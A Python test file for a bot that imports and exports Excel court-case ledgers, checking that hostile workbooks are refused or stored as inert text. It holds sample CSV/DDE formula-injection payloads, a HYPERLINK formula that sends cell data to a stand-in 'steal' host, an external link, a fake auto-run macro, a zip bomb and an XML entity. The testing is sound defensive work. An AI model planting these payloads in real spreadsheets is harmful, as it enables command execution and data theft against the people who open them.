"""Workbooks that mean harm, or look as if: answered in a sentence or taken as plain text; nothing in them is executed,
followed or fetched, and what was text comes out of the ledger as text."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlmodel import Session, select

from bot.store.tables import Case, LedgerImport
from tests import paper_files as files
from tests.builders import County
from tests.fakes import Shown
from tests.handlers.figures.layouts import FIRST, book
from tests.handlers.figures.test_ledger_import import HEADS, LINE, rows
from tests.rig import Rig

DDE = "=cmd|'/c calc.exe'!A0"
LINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"案件")'
AT = '@SUM(1+1)*cmd|"/c calc"!A0'


def with_parts(content: bytes, parts: dict[str, bytes], **changed: tuple[bytes, bytes]) -> bytes:
    """A workbook with more parts; of parts of it, what is replaced in `changed`, by the part's name without folder."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            said = old.read(name)
            for of, (this, that) in changed.items():
                if name.rpartition("/")[2].startswith(of):
                    assert this in said
                    said = said.replace(this, that)
            new.writestr(name, said)
        for name, more in parts.items():
            new.writestr(name, more)
    return stream.getvalue()


def macro() -> bytes:
    """As Excel keeps macros; the name says .xlsx."""
    plain, with_macros = b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    return with_parts(
        rows(HEADS, LINE), {"xl/vbaProject.bin": files.OLE_HEAD + b"Auto_Open" * 100},
        **{"[Content_Types]": (b"openxmlformats-officedocument." + plain, with_macros)},
    )  # fmt: skip


def linked() -> bytes:
    """A cell that is another workbook's, on a share and by the web."""
    target = b'"file://///evil.invalid/share/a.xlsx"'
    rels = b"http://schemas.openxmlformats.org/"
    return with_parts(
        rows(HEADS, (*LINE[:3], "=[1]Sheet1!$A$1", *LINE[4:])),
        {
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="' + rels + b'spreadsheetml/2006/main"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns="' + rels
            + b'package/2006/relationships"><Relationship Id="rId1" Type="' + rels
            + b'officeDocument/2006/relationships/externalLinkPath" Target=' + target
            + b' TargetMode="External"/></Relationships>',
        },
    )  # fmt: skip


def wide() -> bytes:
    """Something in the last column that a sheet has."""

    def fill(made: Workbook, page: Worksheet) -> None:
        page.append(list(HEADS))
        page.append(list(LINE))
        for n in range(len(HEADS) + 1, 16_385):
            page.cell(1, n, f"列{n}")
            page.cell(2, n, n)

    return book(fill)


def merged() -> bytes:
    """More than a million cells that are one, and one that reaches over all that a sheet has."""

    def fill(made: Workbook, page: Worksheet) -> None:
        page.append(list(HEADS))
        page.append(list(LINE))

    ranges = b'<mergeCells count="2"><mergeCell ref="D2:D1048576"/><mergeCell ref="K1:XFD1048576"/></mergeCells>'
    return with_parts(book(fill), {}, sheet1=(b"</sheetData>", b"</sheetData>" + ranges))


def deep() -> bytes:
    """A word in the very last row of a sheet; all between was formatted by hand."""
    return with_parts(
        rows(HEADS, LINE), {},
        sheet1=(b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
                                 b"</sheetData>"),
    )  # fmt: skip


async def awaited(rig: Rig, user: int, name: str, content: bytes) -> Shown:
    """A ledger is awaited, and this comes."""
    [card] = await rig.say(user, "/ledger")
    await rig.press(user, "导入台账", card)
    sent = await rig.send_file(user, name, content)
    return sent[-1]


def cases(session: Session) -> list[Case]:
    return list(session.exec(select(Case)).all())


REFUSED: dict[str, tuple[bytes, str]] = {
    "账.xlsm": (macro(), "另存为 .xlsx"),
    "炸弹.xlsx": (files.bomb("xlsx", 30), "展开后过大"),
    "改名.xlsx": (files.docx("传票", "（2026）鲁0831行初1号"), "并不是 .xlsx 工作簿"),
    "加密.xlsx": (files.OLE_HEAD + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600, "密码"),
    "旧版.xlsx": (files.OLE_HEAD + b"\0" * 600, "另存为"),
    "实体.xlsx": (
        with_parts(rows(HEADS, LINE), {}, sheet1=(b"<worksheet", b'<!DOCTYPE a [<!ENTITY b "b">]><worksheet')),
        "无法打开",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_it_is_refused_in_a_sentence_that_says_what_to_send(rig: Rig, county: County, name: str) -> None:
    content, words = REFUSED[name]
    said = await awaited(rig, county.coordinator, name, content)
    assert words in said.text
    assert "PDF" not in said.text, "a ledger is never taken of that"
    assert await rig.database.read(lambda s: s.exec(select(LedgerImport)).all()) == []
    await rig.send_file(county.coordinator, "台账.xlsx", rows(HEADS, LINE))
    assert "请核对各列含义" in rig.last(county.coordinator).text, "the next one is taken"


TAKEN = {"宏": macro, "外部链接": linked, "列": wide, "合并": merged, "行": deep}


@pytest.mark.parametrize("name", TAKEN)
async def test_it_is_taken_as_the_plain_text_that_it_holds(rig: Rig, county: County, name: str) -> None:
    card = await awaited(rig, county.coordinator, f"{name}.xlsx", TAKEN[name]())
    assert "请核对各列含义" in card.text
    assert len(card.text) < 4096
    await rig.press(county.coordinator, "✓ 无误", card)
    await rig.press(county.coordinator, "✓ 确认导入", card)
    [case] = await rig.database.read(cases)
    assert (case.number, case.plaintiff) == (FIRST, "张三")
    assert case.cause == ("=[1]Sheet1!$A$1" if name == "外部链接" else "行政处罚")


async def exported(rig: Rig, user: int) -> tuple[bytes, list[Any]]:
    """The ledger that goes out: the file, and its cells."""
    [card] = await rig.say(user, "/ledger")
    file = (await rig.press(user, "✓ 生成", card))[-1]
    assert file.document is not None
    content = file.document[1]
    made = openpyxl.load_workbook(io.BytesIO(content))
    return content, [cell for page in made.worksheets for row in page.iter_rows() for cell in row]


async def test_what_looks_like_a_formula_goes_in_and_out_as_text(rig: Rig, county: County) -> None:
    line = (FIRST, "县自然资源局", DDE, LINK, "2026-02-10 09:30", "是", "张明", "副局长", "是")
    user = county.coordinator
    card = await awaited(rig, user, "台账.xlsx", rows((*HEADS, "结果"), (*line, AT)))
    await rig.press(user, "✓ 无误", card)
    await rig.press(user, "✓ 确认导入", card)
    [case] = await rig.database.read(cases)
    assert (case.plaintiff, case.cause) == (DDE, LINK)
    content, cells = await exported(rig, user)
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    [cause, outcome] = [cell for cell in cells if cell.value in (LINK, AT)]
    assert (cause.quotePrefix, outcome.quotePrefix) == (True, True), "nor does it become one when it is edited"
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in one or b"<f " in one for one in sheets)
        assert not any("external" in name.lower() or "vba" in name.lower() for name in parts.namelist())
